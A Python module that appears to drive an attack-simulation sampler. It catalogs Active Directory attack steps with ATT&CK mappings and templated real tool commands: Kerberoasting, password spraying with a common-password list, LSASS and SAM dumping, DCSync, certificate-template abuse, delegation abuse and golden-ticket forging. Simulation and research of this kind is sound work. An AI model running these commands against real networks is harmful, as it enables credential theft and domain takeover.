"""The command catalog, as data: every action the sampler can take.

Each `Command` holds what the catalog route serves (`name`, `pattern`, `description`,
`usage`, `events`), the MITRE ATT&CK technique, the precondition and effect in words
(their code is in `actions.py`, keyed by `name`), and the two renderings: `kali`
(Kali tooling command lines) and `c2` (C2 tasking typed into a beacon console).
Patterns use `{placeholder}` fields that `render.py` fills from the world.

`kind` says which family a command belongs to: `discovery` commands only add
knowledge; `credential` and `exploit` commands compromise something. `target` is
what the step is aimed at: an `edge` (then `edge_types` lists the world edge types
it follows), a `host`, a `user`, a `domain`, a `subnet`, an `artifact` or a `spray`
(a domain and a password of the spray list).

`catalog_for_world(index)` gives the catalog route's items for one world, with
examples built from that world's real names.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

from worlds.sampler.index import WorldIndex, prepare


@dataclass(frozen=True)
class Technique:
    tactic: str
    technique_id: str
    name: str

    def to_dict(self) -> dict[str, str]:
        return {"tactic": self.tactic, "technique_id": self.technique_id, "name": self.name}


@dataclass(frozen=True)
class Command:
    name: str
    kind: str  # discovery | credential | exploit
    target: str  # edge | host | user | domain | subnet | artifact | spray
    edge_types: tuple[str, ...]
    description: str
    usage: str
    precondition: str
    effect: str
    events: tuple[str, ...]
    technique: Technique
    kali: str
    c2: str

    @property
    def pattern(self) -> str:
        return self.kali


_T = Technique
_AUTH = "{auth}"  # "-p 'password'" or "-hashes :nthash", by the credential held

COMMANDS: tuple[Command, ...] = (
    # --- discovery -------------------------------------------------------------------
    Command(
        "network_scan", "discovery", "subnet", (),
        "Sweep a subnet for SMB hosts and fingerprint them.",
        "network_scan <subnet>",
        "the subnet is known (the foothold's, a DC's, or from a collected domain's sites)",
        "every host of the subnet becomes known",
        ("host_discovered",),
        _T("discovery", "T1046", "Network Service Discovery"),
        "nxc smb {subnet}",
        "portscan {subnet} 139,445,3389,5985 arp 1024",
    ),
    Command(
        "bloodhound_collect", "discovery", "domain", (),
        "Collect users, groups, computers, ACLs and trusts of a domain over LDAP.",
        "bloodhound_collect <domain>",
        "a credential valid in the domain (or in a domain it trusts) and a known DC of it",
        "the domain's principals and non-session edges become known, with its subnets and "
        "the DCs of the domains it trusts",
        ("principal_discovered", "edge_discovered", "host_discovered", "subnet_discovered"),
        _T("discovery", "T1087.002", "Account Discovery: Domain Account"),
        "bloodhound-python -d {domain} -u {actor} " + _AUTH + " -ns {dc_ip} -c All --zip",
        "execute-assembly SharpHound.exe -c All --domain {domain} --zipfilename {netbios}.zip",
    ),
    Command(
        "enum_sessions", "discovery", "host", (),
        "List the logon sessions of a host.",
        "enum_sessions <host>",
        "the Windows host is known and a credential valid in its domain is held",
        "the host's HasSession edges and their users become known",
        ("edge_discovered", "principal_discovered"),
        _T("discovery", "T1033", "System Owner/User Discovery"),
        "nxc smb {ip} -u {actor} {nxc_auth} -d {domain} --sessions --loggedon-users",
        "execute-assembly SharpView.exe Get-NetSession -ComputerName {fqdn}",
    ),
    Command(
        "enum_shares", "discovery", "host", (),
        "List and spider the readable shares of a host for credential files.",
        "enum_shares <host>",
        "the Windows host is known and a credential valid in its domain is held",
        "the host's credential files become known",
        ("artifact_discovered",),
        _T("discovery", "T1135", "Network Share Discovery"),
        "nxc smb {ip} -u {actor} {nxc_auth} -d {domain} --shares -M spider_plus",
        "execute-assembly Snaffler.exe -s -n {fqdn}",
    ),
    # --- credential access -----------------------------------------------------------
    Command(
        "asrep_roast", "credential", "user", (),
        "Request an AS-REP for an account that does not require Kerberos pre-authentication.",
        "asrep_roast <user>",
        "the account is known, enabled, and has dont_require_preauth / dontreqpreauth",
        "its AS-REP hash is held, ready to crack",
        ("credential_obtained",),
        _T("credential-access", "T1558.004", "Steal or Forge Kerberos Tickets: AS-REP Roasting"),
        "impacket-GetNPUsers {domain}/{target} -no-pass -dc-ip {dc_ip} -format hashcat",
        "execute-assembly Rubeus.exe asreproast /user:{target} /domain:{domain} /format:hashcat /nowrap",
    ),
    Command(
        "kerberoast", "credential", "user", (),
        "Request a service ticket for an account with an SPN.",
        "kerberoast <user>",
        "the account is known, enabled, has an SPN (has_spn / hasspn), and a credential "
        "valid in its domain is held",
        "its TGS-REP hash is held, ready to crack",
        ("credential_obtained",),
        _T("credential-access", "T1558.003", "Steal or Forge Kerberos Tickets: Kerberoasting"),
        "impacket-GetUserSPNs {domain}/{actor} " + _AUTH + " -dc-ip {dc_ip} -request-user {target}",
        "execute-assembly Rubeus.exe kerberoast /user:{target} /domain:{domain} /nowrap",
    ),
    Command(
        "crack_hash", "credential", "user", (),
        "Crack a roasted Kerberos hash offline with a wordlist and rules.",
        "crack_hash <user>",
        "a roasted hash of the account is held and was not tried yet",
        "the account is compromised iff its password is crackable (fails otherwise)",
        ("credential_obtained", "principal_compromised"),
        _T("credential-access", "T1110.002", "Brute Force: Password Cracking"),
        "hashcat -m {hash_mode} {target}.hash /usr/share/wordlists/rockyou.txt -r best64.rule",
        "hashcat -m {hash_mode} {target}.hash /usr/share/wordlists/rockyou.txt -r best64.rule",
    ),
    Command(
        "password_spray", "credential", "spray", (),
        "Try one common password against every known account of a domain.",
        "password_spray <domain> <password>",
        "the domain is collected (its user list is known) and a DC of it is known",
        "accounts whose weak password is the one sprayed are compromised (often none)",
        ("credential_obtained", "principal_compromised"),
        _T("credential-access", "T1110.003", "Brute Force: Password Spraying"),
        "nxc smb {dc_ip} -u users.txt -p '{password}' -d {domain} --continue-on-success",
        "powershell Invoke-DomainPasswordSpray -Domain {domain} -Password '{password}'",
    ),
    Command(
        "lsass_dump", "credential", "host", (),
        "Dump LSASS on a host where the attacker is admin.",
        "lsass_dump <host>",
        "admin on the host",
        "every user with a session on the host (HasSession) is compromised",
        ("credential_obtained", "principal_compromised", "edge_discovered"),
        _T("credential-access", "T1003.001", "OS Credential Dumping: LSASS Memory"),
        "nxc smb {ip} -u {actor} {nxc_auth} -d {domain} -M lsassy",
        "mimikatz sekurlsa::logonpasswords",
    ),
    Command(
        "sam_dump", "credential", "host", (),
        "Dump the SAM and LSA secrets of a host where the attacker is admin.",
        "sam_dump <host>",
        "admin on the host",
        "the machine account and the local Administrator hash are held; hosts sharing "
        "the host's local_admin_password_id accept that hash",
        ("credential_obtained", "principal_compromised"),
        _T("credential-access", "T1003.002", "OS Credential Dumping: Security Account Manager"),
        "impacket-secretsdump {domain}/{actor}@{ip} " + _AUTH,
        "hashdump",
    ),
    Command(
        "loot_artifact", "credential", "artifact", (),
        "Read a credential-bearing file or registry value found on a host.",
        "loot_artifact <host> <path>",
        "files: known from share enumeration, or shell/admin on the host; registry "
        "values: shell or admin on the host",
        "the credential in it is held: its principal is compromised, or (a local "
        "Administrator password) admin on the host",
        ("credential_obtained", "principal_compromised", "admin_obtained"),
        _T("credential-access", "T1552.001", "Unsecured Credentials: Credentials In Files"),
        "impacket-smbclient {domain}/{actor}@{ip} " + _AUTH + " -c 'get \"{path}\"'",
        "download {path}",
    ),
    Command(
        "dcsync", "credential", "domain", ("DCSync", "GenericAll"),
        "Replicate the domain's secrets from a DC (DRSUAPI GetNCChanges).",
        "dcsync <domain>",
        "a controlled principal holds DCSync or GenericAll on the domain (known edge), or "
        "the domain is compromised; a DC of it is known",
        "the domain is compromised: krbtgt and Administrator are held",
        ("domain_compromised", "credential_obtained", "principal_compromised"),
        _T("credential-access", "T1003.006", "OS Credential Dumping: DCSync"),
        "impacket-secretsdump -just-dc {domain}/{actor}@{dc_ip} " + _AUTH,
        "dcsync {domain} {netbios}\\krbtgt",
    ),
    Command(
        "read_laps_password", "exploit", "edge", ("ReadLAPSPassword",),
        "Read the LAPS-managed local Administrator password of a computer.",
        "read_laps_password <computer>",
        "a controlled principal holds ReadLAPSPassword on the known computer",
        "admin on the host",
        ("credential_obtained", "admin_obtained"),
        _T("credential-access", "T1552", "Unsecured Credentials"),
        "nxc ldap {dc_ip} -u {actor} {nxc_auth} -d {domain} -M laps -o COMPUTER={target}",
        "execute-assembly SharpLAPS.exe /host:{dc_fqdn} /target:{target}",
    ),
    Command(
        "read_gmsa_password", "exploit", "edge", ("ReadGMSAPassword",),
        "Read the managed password of a group managed service account.",
        "read_gmsa_password <account>",
        "a controlled principal holds ReadGMSAPassword on the account",
        "the account is compromised",
        ("credential_obtained", "principal_compromised"),
        _T("credential-access", "T1552", "Unsecured Credentials"),
        "gMSADumper.py -u {actor} " + _AUTH + " -d {domain} -l {dc_ip}",
        "execute-assembly GMSAPasswordReader.exe --AccountName {target}",
    ),
    Command(
        "shadow_credentials", "exploit", "edge", ("AddKeyCredentialLink",),
        "Add a key credential to the target and authenticate with PKINIT.",
        "shadow_credentials <principal>",
        "a controlled principal holds AddKeyCredentialLink on the target",
        "the target is compromised (its NT hash via UnPAC-the-hash)",
        ("credential_obtained", "principal_compromised"),
        _T("persistence", "T1556", "Modify Authentication Process"),
        "certipy shadow auto -u {actor}@{domain} " + _AUTH + " -account {target} -dc-ip {dc_ip}",
        "execute-assembly Whisker.exe add /target:{target} /domain:{domain}",
    ),
    Command(
        "targeted_kerberoast", "credential", "edge", ("WriteSPN",),
        "Set an SPN on the target account and kerberoast it.",
        "targeted_kerberoast <user>",
        "a controlled principal holds WriteSPN on the user",
        "the user's TGS-REP hash is held, ready to crack",
        ("credential_obtained",),
        _T("credential-access", "T1558.003", "Steal or Forge Kerberos Tickets: Kerberoasting"),
        "targetedKerberoast.py -d {domain} -u {actor} " + _AUTH + " --request-user {target} "
        "--dc-ip {dc_ip}",
        "powershell Set-DomainObject -Identity {target} -Set @{{serviceprincipalname='http/{target}'}}",
    ),
    Command(
        "adcs_enroll", "credential", "edge", ("Enroll",),
        "Enroll in a certificate template as the controlled principal.",
        "adcs_enroll <template>",
        "a controlled principal holds Enroll on the template",
        "a certificate for the enrolling principal is held",
        ("credential_obtained",),
        _T("credential-access", "T1649", "Steal or Forge Authentication Certificates"),
        "certipy req -u {actor}@{domain} " + _AUTH + " -dc-ip {dc_ip} -ca {ca} -template {target}",
        "execute-assembly Certify.exe request /ca:{ca} /template:{target}",
    ),
    *(
        Command(
            f"adcs_{esc.lower()}", "exploit", "edge", (f"ADCS{esc}",),
            f"Abuse a vulnerable certificate template ({esc}) to authenticate as the domain's "
            "Administrator.",
            f"adcs_{esc.lower()} <domain>",
            f"a controlled principal holds ADCS{esc} on the domain",
            "the domain is compromised: its Administrator is held",
            ("credential_obtained", "principal_compromised", "domain_compromised"),
            _T("credential-access", "T1649", "Steal or Forge Authentication Certificates"),
            "certipy req -u {actor}@{domain} " + _AUTH + " -dc-ip {dc_ip} -ca {ca} "
            "-template {template} -upn administrator@{domain} && certipy auth -pfx administrator.pfx",
            "execute-assembly Certify.exe request /ca:{ca} /template:{template} /altname:administrator",
        )
        for esc in ("ESC1", "ESC3", "ESC4")
    ),
    # --- privilege escalation and lateral movement ----------------------------------
    Command(
        "force_change_password", "exploit", "edge", ("ForceChangePassword",),
        "Reset the target user's password without knowing the old one.",
        "force_change_password <user>",
        "a controlled principal holds ForceChangePassword on the known, enabled user",
        "the user is compromised (its new password is held)",
        ("credential_obtained", "principal_compromised"),
        _T("persistence", "T1098", "Account Manipulation"),
        "bloodyAD --host {dc_ip} -d {domain} -u {actor} " + _AUTH + " set password {target} '{new_password}'",
        "powershell Set-DomainUserPassword -Identity {target} -AccountPassword "
        "(ConvertTo-SecureString '{new_password}' -AsPlainText -Force)",
    ),
    Command(
        "add_member", "exploit", "edge", ("AddMember",),
        "Add the acting user to the target group.",
        "add_member <group>",
        "a controlled principal holds AddMember on the group",
        "the group (and every group it is nested in) is controlled",
        ("group_joined",),
        _T("persistence", "T1098.007", "Account Manipulation: Additional Local or Domain Groups"),
        "bloodyAD --host {dc_ip} -d {domain} -u {actor} " + _AUTH + " add groupMember '{target}' {member}",
        "powershell Add-DomainGroupMember -Identity '{target}' -Members {member}",
    ),
    *(
        Command(
            name, "exploit", "edge", (edge_type,),
            f"{lead} then abuse full control of the target: reset a user's password, join a "
            "group, or configure resource-based constrained delegation on a computer.",
            f"{name} <principal>",
            f"a controlled principal holds {edge_type} on the known target (a user, group or "
            "computer)",
            "user: compromised; group: controlled; computer: admin on the host",
            ("principal_compromised", "group_joined", "admin_obtained", "credential_obtained"),
            technique, kali, c2,
        )
        for name, edge_type, lead, technique, kali, c2 in (
            ("generic_all", "GenericAll", "Use GenericAll,",
             _T("persistence", "T1098", "Account Manipulation"),
             "{abuse_kali}", "{abuse_c2}"),
            ("generic_write", "GenericWrite", "Use GenericWrite (shadow credentials on users),",
             _T("persistence", "T1098", "Account Manipulation"),
             "{abuse_kali}", "{abuse_c2}"),
            ("write_dacl", "WriteDacl", "Grant the actor FullControl on the target's DACL,",
             _T("defense-evasion", "T1222.001",
                "File and Directory Permissions Modification: Windows"),
             "impacket-dacledit -action write -rights FullControl -principal {actor} -target "
             "'{target}' {domain}/{actor} " + _AUTH + " && {abuse_kali}",
             "powershell Add-DomainObjectAcl -TargetIdentity '{target}' -PrincipalIdentity "
             "{actor} -Rights All; {abuse_c2}"),
            ("write_owner", "WriteOwner", "Take ownership of the target, grant FullControl,",
             _T("defense-evasion", "T1222.001",
                "File and Directory Permissions Modification: Windows"),
             "impacket-owneredit -action write -new-owner {actor} -target '{target}' "
             "{domain}/{actor} " + _AUTH + " && impacket-dacledit -action write -rights "
             "FullControl -principal {actor} -target '{target}' {domain}/{actor} " + _AUTH
             + " && {abuse_kali}",
             "powershell Set-DomainObjectOwner -Identity '{target}' -OwnerIdentity {actor}; "
             "powershell Add-DomainObjectAcl -TargetIdentity '{target}' -PrincipalIdentity "
             "{actor} -Rights All; {abuse_c2}"),
            ("owns", "Owns", "As the target's owner, grant FullControl,",
             _T("defense-evasion", "T1222.001",
                "File and Directory Permissions Modification: Windows"),
             "impacket-dacledit -action write -rights FullControl -principal {actor} -target "
             "'{target}' {domain}/{actor} " + _AUTH + " && {abuse_kali}",
             "powershell Add-DomainObjectAcl -TargetIdentity '{target}' -PrincipalIdentity "
             "{actor} -Rights All; {abuse_c2}"),
        )
    ),
    Command(
        "admin_to", "exploit", "edge", ("AdminTo",),
        "Run a SYSTEM shell on a host the controlled principal administers.",
        "admin_to <host>",
        "a controlled principal holds AdminTo on the known host",
        "admin on the host",
        ("admin_obtained",),
        _T("lateral-movement", "T1021.002", "Remote Services: SMB/Windows Admin Shares"),
        "impacket-psexec {domain}/{actor}@{ip} " + _AUTH,
        "jump psexec64 {fqdn} smb",
    ),
    Command(
        "can_rdp", "exploit", "edge", ("CanRDP",),
        "Log on to the host over RDP.",
        "can_rdp <host>",
        "a controlled principal holds CanRDP on the known host",
        "a user shell on the host",
        ("shell_obtained",),
        _T("lateral-movement", "T1021.001", "Remote Services: Remote Desktop Protocol"),
        "xfreerdp /v:{ip} /u:{actor} /d:{domain} {rdp_auth} /cert:ignore",
        "execute-assembly SharpRDP.exe computername={fqdn} command=\"cmd /c whoami\" "
        "username={netbios}\\{actor}",
    ),
    Command(
        "can_psremote", "exploit", "edge", ("CanPSRemote",),
        "Open a PowerShell remoting session on the host.",
        "can_psremote <host>",
        "a controlled principal holds CanPSRemote on the known host",
        "a user shell on the host",
        ("shell_obtained",),
        _T("lateral-movement", "T1021.006", "Remote Services: Windows Remote Management"),
        "evil-winrm -i {ip} -u {actor} {winrm_auth}",
        "remote-exec winrm {fqdn} whoami /all",
    ),
    Command(
        "sql_admin", "exploit", "edge", ("SQLAdmin",),
        "Log on to the host's SQL Server as sysadmin and run commands with xp_cmdshell.",
        "sql_admin <host>",
        "a controlled principal holds SQLAdmin on the known host",
        "a shell on the host (as the SQL service)",
        ("shell_obtained",),
        _T("persistence", "T1505.001", "Server Software Component: SQL Stored Procedures"),
        "impacket-mssqlclient {domain}/{actor}@{ip} " + _AUTH + " -windows-auth -command "
        "'enable_xp_cmdshell' -command 'xp_cmdshell whoami'",
        "execute-assembly SQLRecon.exe /a:WinToken /h:{fqdn} /m:xpcmd /c:whoami",
    ),
    Command(
        "allowed_to_delegate", "exploit", "edge", ("AllowedToDelegate",),
        "Use constrained delegation (S4U2Self/S4U2Proxy) to impersonate an admin to the host.",
        "allowed_to_delegate <host>",
        "a held principal (its credentials) holds AllowedToDelegate on the known host",
        "admin on the host",
        ("admin_obtained", "credential_obtained"),
        _T("lateral-movement", "T1550.003", "Use Alternate Authentication Material: Pass the Ticket"),
        "impacket-getST -spn cifs/{fqdn} -impersonate Administrator {domain}/{actor} " + _AUTH
        + " && KRB5CCNAME=Administrator.ccache impacket-psexec -k -no-pass {fqdn}",
        "execute-assembly Rubeus.exe s4u /user:{actor} /rc4:{actor_nt} "
        "/impersonateuser:Administrator /msdsspn:cifs/{fqdn} /ptt",
    ),
    Command(
        "rbcd", "exploit", "edge", ("AllowedToAct",),
        "Abuse resource-based constrained delegation to impersonate an admin to the host.",
        "rbcd <host>",
        "a held principal is allowed to act on behalf of others to the known host (AllowedToAct)",
        "admin on the host",
        ("admin_obtained", "credential_obtained"),
        _T("lateral-movement", "T1550.003", "Use Alternate Authentication Material: Pass the Ticket"),
        "impacket-getST -spn cifs/{fqdn} -impersonate Administrator {domain}/{actor} " + _AUTH
        + " && KRB5CCNAME=Administrator.ccache impacket-psexec -k -no-pass {fqdn}",
        "execute-assembly Rubeus.exe s4u /user:{actor} /rc4:{actor_nt} "
        "/impersonateuser:Administrator /msdsspn:cifs/{fqdn} /ptt",
    ),
    Command(
        "sid_history", "exploit", "edge", ("HasSIDHistory",),
        "Authenticate as a held user whose SID history carries the target's SID.",
        "sid_history <principal>",
        "a held user has HasSIDHistory to the target",
        "the target's rights are controlled",
        ("principal_compromised", "group_joined"),
        _T("privilege-escalation", "T1134.005", "Access Token Manipulation: SID-History Injection"),
        "impacket-getTGT {domain}/{actor} " + _AUTH + " && export KRB5CCNAME={actor}.ccache",
        "execute-assembly Rubeus.exe asktgt /user:{actor} /rc4:{actor_nt} /domain:{domain} /ptt",
    ),
    Command(
        "pass_the_hash_local_admin", "exploit", "host", (),
        "Reuse a dumped local Administrator hash on a host that shares the password.",
        "pass_the_hash_local_admin <host>",
        "the local Administrator hash of the host's local_admin_password_id is held and "
        "the host is known",
        "admin on the host",
        ("admin_obtained",),
        _T("lateral-movement", "T1550.002", "Use Alternate Authentication Material: Pass the Hash"),
        "nxc smb {ip} -u Administrator -H {local_nt} --local-auth -x whoami",
        "pth .\\Administrator {local_nt}",
    ),
    Command(
        "trust_abuse", "exploit", "edge", ("TrustedBy",),
        "Forge an inter-realm ticket with the trusting domain's Enterprise/Domain Admins SID "
        "in its extra SIDs.",
        "trust_abuse <domain>",
        "the source domain is compromised (its krbtgt is held), the trust edge is known and "
        "a DC of the trusting domain is known",
        "the trusting domain is compromised: its Administrator is held",
        ("domain_compromised", "principal_compromised", "credential_obtained"),
        _T("privilege-escalation", "T1134.005", "Access Token Manipulation: SID-History Injection"),
        "impacket-ticketer -nthash {krbtgt_nt} -domain-sid {source_sid} -domain {source_domain} "
        "-extra-sid {target_sid}-519 Administrator && KRB5CCNAME=Administrator.ccache "
        "impacket-secretsdump -k -no-pass -just-dc-user {netbios}/Administrator {dc_fqdn}",
        "mimikatz kerberos::golden /user:Administrator /domain:{source_domain} /sid:{source_sid} "
        "/sids:{target_sid}-519 /krbtgt:{krbtgt_nt} /ptt",
    ),
)

BY_NAME: Mapping[str, Command] = {command.name: command for command in COMMANDS}
# Edge type -> the command that follows it (DCSync and GenericAll on a domain go to dcsync).
BY_EDGE_TYPE: Mapping[str, Command] = {
    edge_type: command
    for command in COMMANDS
    if command.target == "edge"
    for edge_type in command.edge_types
}
DISCOVERY = frozenset(c.name for c in COMMANDS if c.kind == "discovery")

# The spray list, in the order it is tried: seasonal and keyboard-walk passwords.
SPRAY_PASSWORDS: tuple[str, ...] = ("Winter2026!", "Welcome1", "Password123!", "Summer2026!")


def catalog_for_world(index_or_world: WorldIndex | Mapping[str, Any]) -> list[dict[str, Any]]:
    """The catalog route's items for one world, in catalog order.

    Each item is `{name, pattern, description, usage, examples, events}`; `examples`
    are concrete `kali` and `c2` command lines against this world's real names.
    """
    from worlds.sampler.render import example_edges, examples_for  # render imports this module

    index = (index_or_world if isinstance(index_or_world, WorldIndex)
             else prepare(index_or_world, freeze_gc=False))
    edges = example_edges(index)
    return [
        {
            "name": command.name,
            "pattern": command.pattern,
            "description": command.description,
            "usage": command.usage,
            "examples": examples_for(index, command, edges),
            "events": list(command.events),
        }
        for command in COMMANDS
    ]
